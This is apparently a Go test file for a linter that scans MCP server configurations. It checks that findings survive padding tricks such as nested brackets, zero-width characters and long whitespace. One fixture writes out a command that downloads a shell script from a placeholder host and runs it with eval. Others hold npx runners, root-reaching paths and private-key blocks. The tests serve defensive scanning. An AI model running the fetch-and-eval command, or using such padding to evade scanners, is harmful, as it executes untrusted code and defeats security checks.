package lint_test

import (
	"encoding/json"
	"strings"
	"testing"

	"governance.internal/shared/lint"
)

// TestPaddingHidesNothing puts a finding after a very long text.
func TestPaddingHidesNothing(t *testing.T) {
	pad := func(s string, size int) string { return strings.Repeat(s, size/len(s)) }
	cases := map[string]struct{ server, code string }{
		"open brackets before a download": {`{"command":"bash","args":["-c",` + quote("cat <<'E'\n"+pad("$(\n", 40<<10)+"E\neval \"$(curl -s https://x.tld/i.sh)\"") + `]}`, "MCP004:error"},
		"commands before a runner":        {`{"command":"bash","args":["-c",` + quote(pad("a b;", 50<<10)+"npx pkg") + `]}`, "MCP003:warn"},
		"a long way to the root":          {`{"command":"files","args":[` + quote("/"+pad("./", 8<<10)) + `]}`, "MCP005:error"},
		"spaces in nested JSON":           {`{"command":"x","env":{"HEADERS":` + quote(`{"X-Api-Key":`+pad(" ", 40<<10)+`"`+fakes["@RANDOM@"]+`"}`) + `}}`, "MCP001:error"},
		"invisible characters":            {`{"command":` + quote("n"+pad("\u200b", 30<<10)+"px") + `,"args":["-y","pkg"]}`, "MCP003:warn"},
		"empty keys before a key":         {`{"command":"x","env":{"PEM":` + quote(pad("-----BEGIN PRIVATE KEY----- example -----END PRIVATE KEY-----", 40<<10)+"-----BEGIN PRIVATE KEY-----MIIE-----END PRIVATE KEY-----") + `}}`, "MCP001:error"},
	}
	for name, c := range cases {
		result, err := lint.Lint([]byte(`{"mcpServers":{"s":` + c.server + `}}`))
		if err != nil {
			t.Errorf("%s: %v", name, err)
		} else if got := strings.Join(gravest(result, "s"), " "); !strings.Contains(got, c.code) {
			t.Errorf("%s: want %s, got %q", name, c.code, got)
		}
	}
}

// TestOutputBound has one long key above many servers with findings.
func TestOutputBound(t *testing.T) {
	result, err := lint.Lint(adversarial()["long project"])
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(result)
	if err != nil {
		t.Fatal(err)
	}
	if len(result.Findings) != lint.MaxFindings || len(raw) > 1200*len(result.Findings) {
		t.Errorf("%d bytes for %d findings", len(raw), len(result.Findings))
	}
}
